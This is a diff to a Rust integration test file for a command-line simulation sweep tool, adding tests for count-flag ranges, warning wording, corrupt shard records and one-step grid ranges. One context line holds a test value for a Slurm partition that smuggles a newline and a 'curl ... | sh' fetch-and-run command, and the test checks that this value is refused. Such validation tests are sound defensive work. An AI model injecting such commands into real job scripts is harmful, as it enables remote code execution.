@@ -443,6 +443,15 @@ fn hostile_slurm_values_are_refused_and_never_reach_a_script() {
         fails(d.path(), &["sweep", "slurm", "sw", "--tasks", "2", &arg], 2, &[flag, why]);
         assert!(!script.exists(), "{flag} {value:?}: a script was written");
     }
+    // Counts given as flags have the sweep file's ranges.
+    for (flag, value) in [("--cpus", "0"), ("--throttle", "0"), ("--tasks", "4294967295"), ("--cpus", "100001")] {
+        let arg = format!("{flag}={value}");
+        let tasks = if flag == "--tasks" { &arg } else { "--tasks=2" };
+        let args: Vec<&str> =
+            ["sweep", "slurm", "sw", tasks].into_iter().chain((flag != "--tasks").then_some(arg.as_str())).collect();
+        fails(d.path(), &args, 2, &[flag, "expected an integer in [1, "]);
+        assert!(!script.exists(), "{flag} {value:?}: a script was written");
+    }
     // The same values in the sweep file's [slurm] table are refused at plan time, located.
     for (key, value, why) in [
         ("partition", "short\\ncurl http://x | sh", "control character"),
@@ -721,7 +730,13 @@ fn an_axis_that_a_set_event_overwrites_is_warned_about() {
     assert!(out.status.success());
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(stderr.contains("warning: the axis `centre.tolerance` is overwritten from tick 6"), "{stderr}");
-    assert!(stderr.contains("events[0]") && stderr.contains("value 0.5"), "{stderr}");
+    assert!(
+        stderr.contains("`set` event of `centre.tolerance` at that tick") && stderr.contains("value 0.5"),
+        "{stderr}"
+    );
+    // The event is named by what it sets and when, not by an index in tick order, which
+    // would disagree with `esh check`'s `events[i]` (the file's order).
+    assert!(!stderr.contains("events["), "{stderr}");
     assert!(!stderr.contains("zones.supervisors"), "{stderr}");
 }
 
@@ -778,4 +793,49 @@ fn the_example_in_sweeps_md_plans() {
     assert_eq!(s.points(), 5 * 3 * 3);
     let tolerance: Vec<String> = esh::sweep::design::grid_values(&s.axes[0]).iter().map(|v| v.to_string()).collect();
     assert_eq!(tolerance, ["0.0", "0.25", "0.5", "0.75", "1.0"], "steps = 5 is five values, ends included");
+}
+
+#[test]
+fn a_corrupt_last_record_is_reported_as_corrupt_not_as_garbage() {
+    let d = setup(SWEEP);
+    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
+    ok(d.path(), &["sweep", "run", "sw", "-q", "-j", "1"]);
+    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
+    let good = read(d.path().join("sw/results.csv"));
+    let shard = d.path().join("sw/shards/shard-0-of-1.csv");
+    let text = read(shard.clone());
+    // The last record: the rows after the second-to-last `done` line, then its own.
+    let body = &text[..text.len() - 1];
+    let last_done = body.rfind("\ndone,").unwrap();
+    let start = body[..last_done].rfind("\ndone,").map(|i| i + 1 + body[i + 1..].find('\n').unwrap() + 1).unwrap();
+    let run: u64 = text[start + 2..].split(',').next().unwrap().parse().unwrap();
+    let mut bytes = text.clone().into_bytes();
+    let at = start + 6 + bytes[start + 6..].iter().position(|b| b.is_ascii_digit()).unwrap();
+    bytes[at] = if bytes[at] == b'9' { b'8' } else { b'9' };
+    fs::write(&shard, &bytes).unwrap();
+    let status = ok(d.path(), &["sweep", "status", "sw"]);
+    assert!(status.contains(&format!("corrupt at byte {start} (run {run})")), "{status}");
+    assert!(!status.contains("garbage") && !status.contains("unfinished"), "{status}");
+    let out = esh().current_dir(d.path()).args(["sweep", "run", "sw"]).output().unwrap();
+    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    assert!(out.status.success(), "{stderr}");
+    assert!(stdout.contains("1 ran now") && stdout.contains("17 done before"), "{stdout}");
+    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
+    assert_eq!(good, read(d.path().join("sw/results.csv")));
+}
+
+#[test]
+fn a_grid_range_of_one_step_is_refused() {
+    let d = setup(SWEEP);
+    fs::write(
+        d.path().join("one.toml"),
+        "[sweep]\nscenario = \"base.toml\"\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0, steps = 1 }\n",
+    )
+    .unwrap();
+    fails(
+        d.path(),
+        &["sweep", "plan", "one.toml", "--out", "x"],
+        2,
+        &["one.toml:4:", "steps = 1 over [0, 1]", "both ends"],
+    );
 }
